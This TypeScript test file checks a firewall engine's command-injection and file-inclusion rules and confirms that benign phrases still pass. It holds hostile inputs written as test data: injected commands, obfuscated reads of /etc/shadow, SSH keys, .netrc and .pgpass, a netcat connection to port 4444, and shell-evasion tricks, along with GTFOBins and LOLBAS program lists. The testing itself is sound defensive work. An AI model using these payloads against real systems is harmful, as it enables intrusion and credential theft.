import { beforeAll, describe, expect, it } from "vitest";
import { catalogueMatch } from "../../../server/firewall/catalogue";
import { PROGRAMS, WORD_PROGRAMS } from "../../../server/firewall/catalogues.generated";
import { FirewallEngine } from "../../../server/firewall/engine";
import { FREE_TEXT_LOCATIONS, LOCATIONS, locationsBlocking } from "../../fixtures/firewall/measure";

/**
 * Round 8 of issue 30 item 4 (decision 488): the programs GTFOBins and LOLBAS document join the
 * catalogues; a program at the start of a value is read with its shell-shaped argument after plain
 * words too, behind a runner whatever follows, and a word-named program with an option; cmd.exe's
 * IF with a glued comparison; brackets holding a slash and paths under ~+ and ~-. Every attack here
 * was written for this test from the shells' references, GTFOBins's and LOLBAS's pages.
 */
let engine: FirewallEngine;
beforeAll(() => {
  engine = new FirewallEngine(undefined, 1_000_000, false);
});

describe("the catalogues hold the programs attackers are documented to abuse", () => {
  const programs = new Set(PROGRAMS.split(" "));
  const words = new Set(WORD_PROGRAMS.split(" "));

  it("GTFOBins's programs that Debian links through alternatives or does not ship", () => {
    for (const name of ["gcloud", "msfconsole", "dotnet", "rustup", "nawk", "jshell", "c99"])
      expect(programs).toContain(name);
    // Words stay among the words: read only where quoting disguises them or after IF.
    for (const name of ["awk", "telnet", "java", "knife", "terraform"]) expect(words).toContain(name);
  });

  it("LOLBAS's Windows programs and scripts, not its libraries", () => {
    for (const name of ["bitsadmin", "msedge", "pubprn", "winword", "mavinject"]) expect(programs).toContain(name);
    for (const name of ["shell32", "advpack", "ieframe"]) expect(programs).not.toContain(name);
  });
});

describe("catalogueMatch, round 8", () => {
  it.each([
    // A shell-shaped argument after plain words (decision 479 as written).
    "ansible-galaxy role install -f x",
    "rustc main.rs",
    "pdflatex thesis.tex",
    "msfconsole exploit multi/handler",
    "gcloud compute ssh --zone x",
    // A catalogued program behind a runner, whatever follows.
    "time nmap localhost now",
    "nohup htop please",
    // A word-named program typed in lower case with an option.
    "expect -c x",
    "sort -r names",
    "docker --version",
    "octave --eval=x",
    // IF with a glued comparison, then any word.
    "if a==b foo",
    "IF /I x==y bar",
    "if not 1==2 (baz)",
    // IF left open as a block opens it or as documentation elides it.
    "IF EXIST report.txt (",
    "if defined FOO ...",
    // A Windows switch glued to the program, after a separator.
    "a&ipconfig/all",
    "x|netstat/an",
    // A word-named program with short options in one case, after a separator.
    "x; ls -la",
    "x| PS -EF",
    // A runner that is no English word, after a separator, then any program.
    "| timeout 5 sleep 10",
    ";timeout 5 yes",
    "& sudo cat notes",
  ])("refuses %s", (value) => {
    expect(catalogueMatch(value)).toEqual({ rule: "svc-cmdi-023", type: "command_injection" });
  });

  it.each([
    "grep tool",
    "wget help",
    "mkdir folder",
    "time off request",
    "nice doctor near 99501",
    "Group -A strep",
    "Gold -hmo",
    "Price - low to high",
    "gold --best value plan",
    "If A==B, what?",
    "if a==b?",
    "IF coverage == yes",
    "if x==y then",
    "If eligible, what is covered?",
    "Medicare & Medicaid/CHIP",
    "AT&T/Verizon",
    "first; last -2 years",
    "Gold; Silver -HMO",
    "Call; timeout 5 mins",
  ])("passes %s", (value) => {
    expect(catalogueMatch(value)).toBeUndefined();
  });
});

describe("svc-cmdi-026 in the engine", () => {
  it.each([
    "/[e//]tc/shadow",
    "cat /b[i/]n/sh",
    "x;ls ~+/",
    "cd ~-/.ssh",
    "cat ~+2/id_rsa",
    "CD /;CD ETC;TAC PASSWD",
    "x;cd tmp;./run",
    "a | NC 10.0.0.1 4444",
    "x; PING -N 3 192.168.0.1",
    "{cat,/etc/hosts}",
    "x{,/tmp/y}",
    "{wc,-l}",
    "echo ${HOME}",
    "a${IFS}b",
    "${#user}",
    "${path:0:1}etc",
    "${x//a/b}",
  ])("refuses %s in every structured place", async (value) => {
    const locations = LOCATIONS.filter((l) => l !== "header" || !/[\r\n]/.test(value));
    expect(await locationsBlocking(engine, value, locations)).toEqual(locations);
  });

  it.each([
    "cd ~-",
    "approx ~+/- 5%",
    "cost /[month/year]",
    "~-5°F outside",
    "per [day/week]",
    "CD rates; savings",
    "CD / DVD drive",
    "Email & ping 907-555-0100",
    "{red,green}",
    "${amount}",
    "cost $(approx) 300",
    "Gold {PPO,HMO}",
    "ages <(18)",
  ])("passes %s everywhere", async (value) => {
    expect(await locationsBlocking(engine, value, [...LOCATIONS, ...FREE_TEXT_LOCATIONS])).toEqual([]);
  });

  it.each([".bash_profile", "/home/x/.netrc", "..\\.pgpass", "x;cat .my.cnf"])(
    "svc-lfi-007 refuses %s in every structured place",
    async (value) => {
      expect(await locationsBlocking(engine, value, LOCATIONS)).toEqual([...LOCATIONS]);
    },
  );

  it.each(["my profile", "fast forward", "profile.pdf"])("svc-lfi-007 passes %s everywhere", async (value) => {
    expect(await locationsBlocking(engine, value, [...LOCATIONS, ...FREE_TEXT_LOCATIONS])).toEqual([]);
  });

  it("reads nothing of round 8 in a note", async () => {
    for (const value of ["time nmap localhost now", "if a==b foo", "/[e//]tc", "sort -r names"])
      expect(await locationsBlocking(engine, value, FREE_TEXT_LOCATIONS)).toEqual([]);
  });
});
